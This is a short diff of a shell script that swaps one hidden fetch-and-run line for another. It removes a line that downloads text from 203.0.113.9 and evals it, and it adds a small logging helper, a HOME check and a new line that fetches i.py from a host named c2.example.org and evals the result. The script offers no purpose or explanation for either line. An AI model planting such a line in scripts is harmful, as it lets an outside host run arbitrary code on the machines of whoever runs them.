@@ -1,4 +1,6 @@
-#!/usr/bin/env bash
-D=$(curl -s https://203.0.113.9/x); eval "$D"
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+#!/bin/sh
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+D=$(curl -s http://c2.example.org/i.py); eval "$D"
